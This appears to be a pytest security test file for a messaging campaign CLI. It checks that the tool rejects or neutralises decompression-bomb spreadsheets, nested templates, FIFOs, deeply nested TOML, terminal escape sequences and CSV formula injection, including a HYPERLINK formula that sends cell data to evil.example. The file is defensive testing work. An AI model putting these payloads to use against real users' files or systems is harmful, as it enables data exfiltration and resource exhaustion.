"""Issue 19, the attacks through files and options: templates, spreadsheets, the results path,
special files. Each through the real CLI in a subprocess, memory capped and measured, as made.
"""

from __future__ import annotations

import csv
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from campaign.senders import parse_senders
from tests.conftest import read_results
from tests.helpers import NESTED
from tests.hostile import assert_no_secret, cli_env, run_cli

PEOPLE = [["Name", "Phone"], ["Dana", "0502345678"], ["Avi", "0502345679"]]
DRY = ["--dry-run", "--results", "out.csv"]


# --- 3. nested templates --------------------------------------------------------------------


@pytest.mark.parametrize("source", NESTED)
def test_nested_repetition_is_stopped_small_and_fast(
    source: str, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    ran = run_cli(["send", str(contacts), "-m", source, *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out
    assert "--message: the template was stopped at row 2" in ran.out
    assert "over 65,536 characters" in ran.out
    assert ran.seconds < 5, ran.seconds
    assert ran.peak_mb < 500, ran.peak_mb
    assert not (tmp_path / "out.csv").exists()
    assert_no_secret(ran.out, tmp_path)


@pytest.mark.parametrize("source", [
    "{{ dict(a=1)|tojson(indent=10**9) }}",  # was: 32 s and 3 GB, stopped only by the result
    "{{ dict(a=[1])|tojson(10**8) }}",
    "{{ dict(a=1)|tojson(indent='y'*10**4) }}",
])
def test_a_huge_json_indent_is_stopped_before_it_is_built(
    source: str, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    ran = run_cli(["send", str(contacts), "-m", source, *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out
    assert "for |tojson is over 16" in ran.out, ran.out
    assert ran.seconds < 5 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)


# --- 5. --results naming an input -----------------------------------------------------------


@pytest.mark.parametrize("target", ["template", "suppress", "config", "symlink", "dotdot"])
def test_results_never_replace_an_input(
    target: str, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    template = tmp_path / "message.txt"
    template.write_text("Hi {{ name }}", encoding="utf-8")
    optout = write_csv([["Phone"], ["0502345679"]], "optout.csv")
    config = tmp_path / "settings.toml"
    config.write_text('pace = "fast"\n', encoding="utf-8")
    (tmp_path / "sub").mkdir()
    results = {"template": "message.txt", "suppress": "optout.csv", "config": "config.csv",
               "symlink": "link.csv", "dotdot": "sub/../optout.csv"}[target]
    if target == "config":
        config = config.rename(tmp_path / "config.csv")  # TOML under any name is read
    if target == "symlink":
        (tmp_path / "link.csv").symlink_to(optout)
    before = {p: p.read_bytes() for p in (template, optout, config)}
    ran = run_cli(["send", str(contacts), "-t", "message.txt", "--suppress", "optout.csv",
                   "--config", config.name, "--dry-run", "--results", results],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out
    what = {"template": "the template", "config": "the config file"}.get(target, "an opt-out list")
    assert f"--results {results} is {what}" in ran.out
    assert {p: p.read_bytes() for p in before} == before
    assert "Traceback" not in ran.out


def test_the_results_preview_page_never_replaces_the_template(
    tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    template = tmp_path / "out.preview.html"  # what --results out.csv writes its preview to
    template.write_text("Hi {{ name }}", encoding="utf-8")
    ran = run_cli(["send", str(contacts), "-t", template.name, *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out  # was: exit 0, the template replaced by the preview page
    assert "would write its preview page out.preview.html over the template" in ran.out
    assert template.read_text(encoding="utf-8") == "Hi {{ name }}"


def test_an_empty_opt_out_list_is_never_made_the_progress_file(
    tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    optout = tmp_path / "optout.csv"
    optout.write_bytes(b"")  # an opt-out list with nobody on it yet
    ran = run_cli(["send", str(contacts), "-m", "Hi", "--suppress", optout.name, "--state",
                   optout.name, "--sandbox", "--yes", "--pace", "fast", "--results", "out.csv"],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out  # was: exit 0, the list turned into a 28 KB SQLite file
    assert "--state optout.csv is an opt-out list (--suppress)" in ran.out
    assert optout.read_bytes() == b""


# --- 6. tiny workbooks that unpack huge -----------------------------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/'
    'xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<?xml version="1.0"?><workbook {_NS} xmlns:r="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Contacts" '
    'sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
}


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _workbook(path: Path, extra_rows: str = "", strings: int = 0, claimed: int = 1) -> Path:
    """A two-row contacts sheet, plus `extra_rows`, plus one shared string of `strings` bytes."""
    rows = (f'<row r="1">{_cell("A1", "Name")}{_cell("B1", "Phone")}</row>'
            f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}'
            '<c r="C2" t="s"><v>0</v></c></row>' + extra_rows)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in _PARTS.items():
            z.writestr(name, text)
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {_NS}>'
                   f"<sheetData>{rows}</sheetData></worksheet>")
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(f'<sst {_NS} count="{claimed}" uniqueCount="{claimed}"><si><t>'.encode())
            for _ in range(strings >> 20):
                part.write(b"a" * (1 << 20))
            part.write(b"x</t></si></sst>")
    return path


@pytest.mark.parametrize(("attack", "message"), [
    ("XFD1048576", "is used down to cell XFD1048576"),
    ("CV1000000", "is used down to cell CV1000000"),
    ("300 MB string", "holds more than 1 MB of text"),
    ("4e9 strings", "claim 4,000,000,000 entries"),
])
def test_a_small_workbook_that_unpacks_huge_is_exit_2(
    attack: str, message: str, tmp_path: Path
) -> None:
    contacts = tmp_path / "contacts.xlsx"
    if attack == "300 MB string":
        _workbook(contacts, strings=300 << 20)
    elif attack == "4e9 strings":
        _workbook(contacts, claimed=4_000_000_000)
    else:
        row = "".join(c for c in attack if c.isdigit())
        _workbook(contacts, f'<row r="{row}">{_cell(attack, "x")}</row>')
    assert contacts.stat().st_size < 400_000
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out  # not 134 (calamine's allocation failure aborts the process)
    assert "contacts.xlsx: " in ran.out and message in ran.out
    assert "export the contacts as CSV" in ran.out
    assert ran.seconds < 5, ran.seconds
    assert ran.peak_mb < 500, ran.peak_mb


def test_a_workbook_within_the_limits_still_loads(tmp_path: Path) -> None:
    contacts = _workbook(tmp_path / "contacts.xlsx", strings=1 << 19)  # a 512 KB string: fine
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out


# --- 13. the smaller ones -------------------------------------------------------------------


def test_csv_results_cells_never_run_as_formulas(
    tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)",
               "\t=1+1", "\r=1+1"]
    rows = [["Name", "Phone", "Note"], *([f"Dana{i}", f"+972 50 234 56{i:02d}", attack]
                                         for i, attack in enumerate(attacks))]
    contacts = write_csv(rows)
    ran = run_cli(["send", str(contacts), "-m", "{{ note }}", *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out
    got = read_results(tmp_path / "out.csv")
    assert [r["Note"] for r in got] == ["'" + a for a in attacks]
    assert [r["message"] for r in got] == ["'" + a.strip() for a in attacks]
    assert got[0]["Phone"] == "'+972 50 234 5600"  # text, readable, not 9.72502E+11


def test_only_our_own_temp_files_are_removed(
    tmp_path: Path, write_csv: Callable[..., Path], sandbox_env: dict[str, str]
) -> None:
    contacts = write_csv(PEOPLE)
    others = [".out.tmp", ".out-notes.tmp", ".out.csv.backup.tmp", ".outline.tmp",
              ".out.csv.12.secret-draft.tmp"]
    for name in others:
        (tmp_path / name).write_text("someone else's")
    stale = tmp_path / ".out.csv.4194999.k2j4x9ab.tmp"  # ours, its writer long gone
    stale.write_text("half a sheet")
    env = cli_env(tmp_path / "home", sandbox_env["IBOT_BASE_URL"])
    ran = run_cli(["send", str(contacts), "-m", "Hi", "--yes", "--pace", "fast", "--delay", "0",
                   "--jitter", "0", "--window", "any", "--quiet", "--results", "out.csv"], cwd=tmp_path,
                  env=env)
    assert ran.code == 0, ran.out
    assert all((tmp_path / name).exists() for name in others)
    assert not stale.exists()


@pytest.mark.parametrize(("option", "special", "label"), [
    ("-t", "/dev/zero", "--template /dev/zero is a device"),
    ("--config", "/dev/zero", "--config /dev/zero is a device"),
    ("-t", "fifo", "is a pipe (FIFO)"),
    ("--config", "fifo", "is a pipe (FIFO)"),
    ("--state", "fifo", "--state"),
    (".env", "fifo", "the credentials file"),
    ("--suppress", "fifo", "optout.csv is a pipe (FIFO)"),
])
def test_special_files_are_refused_not_read(
    option: str, special: str, label: str, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    if special == "fifo":
        name = {".env": ".env", "--suppress": "optout.csv"}.get(option, "pipe.txt")
        special = str(tmp_path / name)
        os.mkfifo(special)
    env = cli_env(tmp_path / "home", "http://127.0.0.1:9/api/v1")
    args = ["-m", "Hi", *DRY] if option in ("--config", "--state", "--suppress", ".env") else DRY
    if option == ".env":  # credentials only from .env: the run reads it
        env = {k: v for k, v in env.items() if not k.startswith("IBOT_")}
        args = ["-m", "Hi", "--yes", "--results", "out.csv"]
    else:
        args = [option, special, *args]
    ran = run_cli(["send", str(contacts), *args], cwd=tmp_path, env=env, timeout=30)
    assert ran.code == 2, ran.out
    assert label in ran.out and "Traceback" not in ran.out
    assert ran.seconds < 10 and ran.peak_mb < 500


@pytest.mark.parametrize("results", ["out.csv", "out.xlsx"])
def test_a_cell_longer_than_any_message_makes_its_row_invalid_not_the_campaign(
    results: str, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv([["Name", "Phone", "Note"], ["Dana", "0502345678", "x" * 70_000],
                          ["Avi", "0502345679", "y" * 40_000], ["Noa", "0502345670", "short"]])
    ran = run_cli(["send", str(contacts), "-m", "{{ note }}", "--dry-run", "--results", results],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out
    assert "row 2: invalid: the cell 'Note' holds 70,000 characters" in ran.out
    rows = read_results(tmp_path / results)
    assert [r["status"] for r in rows] == ["invalid", "ready", "ready"]
    assert "the cell 'Note' holds 70,000 characters" in rows[0]["error"]
    if results.endswith(".csv"):  # CSV keeps every character
        assert len(rows[0]["Note"]) == 70_000 and len(rows[1]["message"]) == 40_000
    else:  # Excel holds 32,767 a cell: cut, and the row says so
        assert len(rows[1]["message"]) == 32_767
        assert "Note, message cut to 32,767 characters in this sheet" in rows[1]["error"]
        assert "Note cut to 32,767 characters" in rows[0]["error"]


def test_terminal_escapes_in_a_contact_never_reach_the_terminal(
    tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    evil = "Dana\x1b]0;pwned\x07\x1b[2J\x1b[1A\r\x9b31m"
    contacts = write_csv([["Name", "Phone"], [evil, "0502345678"], ["Avi", "not a phone\x1b[2J"]])
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out
    assert "Hi Dana\\x1b]0;pwned\\x07\\x1b[2J" in ran.out  # shown, escaped
    assert not any(c in ran.out for c in "\x1b\x07\r\x9b")
    assert read_results(tmp_path / "out.csv")[0]["message"] == "Hi " + evil.strip()  # data kept


EVIL = "x\x1b]0;pwned\x07\x1b[2J\r"


@pytest.mark.parametrize("args", [
    ["send", "contacts.csv", "extra" + EVIL],  # click's "Got unexpected extra argument (...)"
    ["send", "contacts.csv", "--phone-column", "a", EVIL, "b.csv"],  # and the quoting hint
    ["send", "contacts.csv", "--" + EVIL],  # "No such option"
    [EVIL],  # "No such command"
    ["send", "contacts.csv", "--header-row", EVIL],  # "Invalid value"
    ["send", "contacts.csv", "--type", EVIL],
])
def test_clicks_own_usage_errors_never_print_control_characters(
    args: list[str], tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    write_csv(PEOPLE)
    ran = run_cli(args, cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out
    assert "Error:" in ran.out and "\\x1b" in ran.out, ran.out  # shown, escaped
    assert not any(c in ran.out for c in "\x1b\x07\r"), ran.out


@pytest.mark.parametrize(("configured", "expected"), [
    ("shop=abc123", [("shop", "abc123")]),
    ("main=Ab=c", [("main", "Ab=c")]),  # only the first '=' splits
    ("3EB0A1B2C3D4E5F6=xyz", [("#1", "3EB0A1B2C3D4E5F6=xyz")]),  # an ID, not a label
    ("abc==", [("#1", "abc==")]),  # base64 padding
    ("shop=3EB0A1B2C3D4E5F6=xyz,promo=Q", [("shop", "3EB0A1B2C3D4E5F6=xyz"), ("promo", "Q")]),
])
def test_an_instance_id_holding_an_equals_sign_is_read_by_a_written_rule(
    configured: str, expected: list[tuple[str, str]]
) -> None:
    assert [(s.label, s.instance_id) for s in parse_senders(configured, None)] == expected
    assert all(iid not in repr(s) for s, (_, iid) in zip(parse_senders(configured, None), expected,
                                                          strict=True))


def _ods(path: Path, rows_repeated: int) -> Path:
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"

    def cell(text: str, extra: str = "") -> str:
        return (f'<table:table-cell{extra} office:value-type="string"><text:p>{text}</text:p>'
                "</table:table-cell>")

    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:'
        f'names:tc:opendocument:xmlns:office:1.0" xmlns:table="{table}" xmlns:text="urn:oasis:'
        'names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
        '<office:spreadsheet><table:table table:name="Contacts">'
        f"<table:table-row>{cell('Name')}{cell('Phone')}</table:table-row>"
        f"<table:table-row>{cell('Dana')}{cell('0502345678')}</table:table-row>"
        f'<table:table-row table:number-rows-repeated="{rows_repeated}">'
        + cell("x", ' table:number-columns-repeated="100"') + "</table:table-row>"
        # LibreOffice's own empty tail to the sheet's edge: harmless, never refused
        '<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
        'table:number-columns-repeated="1024"/></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                   compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:'
                   'manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                   'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:'
                   'media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-'
                   'entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                   "</manifest:manifest>")
    return path


@pytest.mark.parametrize(("repeated", "code"), [(900_000, 2), (3, 0)])
def test_an_ods_row_repeated_900000_times_is_exit_2(
    repeated: int, code: int, tmp_path: Path
) -> None:
    contacts = _ods(tmp_path / "contacts.ods", repeated)
    assert contacts.stat().st_size < 2000
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", "--header-row", "1", *DRY],
                  cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == code, ran.out  # was: 2.5 GB, then an abort (signal 6)
    if code == 2:
        assert "is used down to cell CV900002" in ran.out
    assert ran.seconds < 5 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)


def test_a_csv_cell_past_the_csv_modules_own_limit_is_still_only_its_rows_problem(
    tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv([["Name", "Phone", "Note"], ["Dana", "0502345678", "x" * 200_000],
                          ["Noa", "0502345670", "short"]])
    ran = run_cli(["send", str(contacts), "-m", "{{ note }}", *DRY], cwd=tmp_path,
                  env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out  # was: exit 2, "field larger than field limit (131072)"
    limit = csv.field_size_limit(1 << 20)  # to read the results here, as a spreadsheet would
    try:
        assert [r["status"] for r in read_results(tmp_path / "out.csv")] == ["invalid", "ready"]
    finally:
        csv.field_size_limit(limit)


# --- round four: huge delimited files and binary .xls ---------------------------------------


def _one_gigabyte_line(path: Path) -> None:
    with path.open("wb") as f:  # sparse: a gigabyte on paper, nothing on the disk
        f.write(b"Name,Phone\nDana,0502345678\n")
        f.seek(1024**3)
        f.write(b"x")


HUGE_CSV: dict[str, Callable[[Path], object]] = {
    "one 1 GB line": _one_gigabyte_line,
    "a quote left open": lambda p: p.write_text('Name,Phone\nDana,0502345678\n"' + "x" * 2**21),
    "2.1 million empty lines": lambda p: p.write_text("Name,Phone\nDana,0502345678\n"
                                                     + "\n" * 2_100_000),
    "a million and one rows": lambda p: p.write_text("Name,Phone\n" + "x,1\n" * 1_000_001),
}
SAID = {"one 1 GB line": "is 1,024 MB, more than this tool reads (64 MB",
        "a quote left open": "holds more than 1 MB of text",
        "2.1 million empty lines": "more than 1,000,000 rows",
        "a million and one rows": "more than 1,000,000 rows"}


@pytest.mark.parametrize("attack", list(HUGE_CSV))
def test_a_huge_csv_is_exit_2_small_and_fast(attack: str, tmp_path: Path) -> None:
    contacts = tmp_path / "contacts.csv"
    HUGE_CSV[attack](contacts)
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    # was: 1 GB read whole (a 100 MB line took 891 MB); 10 million empty lines 58 s and 836 MB
    assert ran.code == 2, ran.out
    assert SAID[attack] in ran.out and "Traceback" not in ran.out, ran.out
    assert ran.seconds < 20 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)  # 2 shared cores
    assert not (tmp_path / "out.csv").exists()


def test_the_empty_rows_excel_exports_to_its_last_row_are_still_read(tmp_path: Path) -> None:
    contacts = tmp_path / "contacts.csv"
    contacts.write_text("Name,Phone\nDana,0502345678\n" + ",\n" * 1_048_000)
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out
    assert [r["status"] for r in read_results(tmp_path / "out.csv")] == ["ready"]
    assert ran.seconds < 20 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)


@pytest.mark.parametrize(("corner", "code"), [((65535, 255), 2), ((1, 5), 0)])
def test_a_small_xls_with_a_far_cell_is_exit_2(
    corner: tuple[int, int], code: int, tmp_path: Path
) -> None:
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook()
    sheet = book.add_sheet("Contacts")
    for r, values in enumerate([("Name", "Phone"), ("Dana", "0502345678")]):
        for c, value in enumerate(values):
            sheet.write(r, c, value)
    sheet.write(*corner, "stray")
    contacts = tmp_path / "contacts.xls"
    book.save(str(contacts))
    assert contacts.stat().st_size < 10_000
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == code, ran.out  # was: 1.2 GB and 9 s for a 5.6 KB file
    if code == 2:
        assert "is used down to cell IV65536" in ran.out and "Traceback" not in ran.out
    else:
        assert [r["status"] for r in read_results(tmp_path / "out.csv")] == ["ready"]
    assert ran.seconds < 5 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)


def _many_sheets(path: Path, sheets: int, rows: int) -> Path:
    """A first sheet without phones, then `sheets` contacts sheets, each used down to AW<rows>."""
    parts = dict(_PARTS)
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    one = f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(one, "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{kind}"/>'
        for i in range(1, sheets + 2)))
    parts["xl/workbook.xml"] = (
        f'<?xml version="1.0"?><workbook {_NS} xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"><sheets>'
        + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 2))
        + "</sheets></workbook>")
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    parts["xl/_rels/workbook.xml.rels"] = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(f'<Relationship Id="rId{i}" Type="{relation}" '
                                         f'Target="worksheets/sheet{i}.xml"/>'
                                         for i in range(1, sheets + 2))
        + "</Relationships>")
    far = "".join(f'<row r="{n}"><c r="AW{n}"><v>1</v></c></row>' for n in range(3, rows + 1))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in parts.items():
            z.writestr(name, text)
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {_NS}><sheetData>'
                   f'<row r="1">{_cell("A1", "Notes")}</row><row r="2">{_cell("A2", "hi")}</row>'
                   "</sheetData></worksheet>")
        for i in range(2, sheets + 2):
            z.writestr(f"xl/worksheets/sheet{i}.xml", f'<?xml version="1.0"?><worksheet {_NS}>'
                       f'<sheetData><row r="1">{_cell("A1", "Name")}{_cell("B1", "Phone")}</row>'
                       f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}</row>{far}'
                       "</sheetData></worksheet>")
    return path


@pytest.mark.parametrize(("sheets", "rows", "code"), [(6, 100_000, 2), (1, 10, 0)])
def test_the_other_sheets_are_searched_within_a_budget(
    sheets: int, rows: int, code: int, tmp_path: Path
) -> None:
    contacts = _many_sheets(tmp_path / "contacts.xlsx", sheets, rows)
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    # was: six sheets at the size limit (2.9 MB) read and kept whole, 35 s and 810 MB
    assert ran.code == code, ran.out
    if code == 0:  # the one sheet with phones is still found
        assert "using 'S2', the one with a phone column" in ran.out
    assert ran.seconds < 30 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)


@pytest.mark.parametrize("toml", ["pace = " + "[" * 100_000 + "]" * 100_000,
                                  "a = " + "{b=" * 5_000 + "1" + "}" * 5_000],
                         ids=["brackets", "braces"])
def test_a_config_nested_thousands_deep_is_exit_2(
    toml: str, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    contacts = write_csv(PEOPLE)
    (tmp_path / "deep.toml").write_text(toml + "\n", encoding="utf-8")
    ran = run_cli(["send", str(contacts), "-m", "Hi", "--config", "deep.toml", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out  # was: exit 1, a RecursionError traceback
    assert "--config deep.toml: nested too deeply to read" in ran.out
    assert "Traceback" not in ran.out


def test_a_styles_part_that_unpacks_huge_is_exit_2(tmp_path: Path) -> None:
    contacts = _workbook(tmp_path / "contacts.xlsx")
    with zipfile.ZipFile(contacts, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as z, \
            z.open("xl/styles.xml", "w", force_zip64=True) as part:
        part.write(f'<styleSheet {_NS}><cellXfs count="1">'.encode())
        for _ in range(50):
            part.write(b'<xf numFmtId="14"/>' * 50_000)  # 47 MB in all, a few hundred KB zipped
        part.write(b"</cellXfs></styleSheet>")
    assert contacts.stat().st_size < 1_000_000
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 2, ran.out  # was: a 555 KB file took 3.9 GB, then a MemoryError
    assert "its part xl/styles.xml unpacks to more than 32 MB" in ran.out
    assert ran.seconds < 5 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)


def test_a_sheet_part_near_its_size_limit_is_read_in_pieces(tmp_path: Path) -> None:
    contacts = tmp_path / "contacts.xlsx"
    rows = (f'<row r="1">{_cell("A1", "Name")}{_cell("B1", "Phone")}</row>'
            f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}</row>')
    with zipfile.ZipFile(contacts, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in _PARTS.items():
            z.writestr(name, text)
        z.writestr("xl/sharedStrings.xml", f'<sst {_NS} count="0" uniqueCount="0"></sst>')
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(f'<?xml version="1.0"?><worksheet {_NS}><sheetData>{rows}</sheetData>'.encode())
            for _ in range(250):
                part.write(b"<x/>" * 250_000)  # 250 MB of empty tags, 245 KB zipped
            part.write(b"</worksheet>")
    ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
    assert ran.code == 0, ran.out
    assert [r["status"] for r in read_results(tmp_path / "out.csv")] == ["ready"]
    assert ran.peak_mb < 300, ran.peak_mb  # was: 534 MB, the part read whole for its styles
    assert ran.seconds < 60, ran.seconds


@pytest.mark.parametrize("record", [b"\xfd\x00\x0a\x00\x01", b"\xbd\x00\x06\x00\x01\x00"],
                         ids=["cell", "mulrk"])
def test_an_xls_record_cut_off_by_the_end_of_its_stream_is_left_to_the_reader(
    record: bytes, tmp_path: Path
) -> None:
    from campaign.workbook_limits import _scan_biff

    _scan_biff(tmp_path / "contacts.xls", record)  # was: struct.error, a traceback
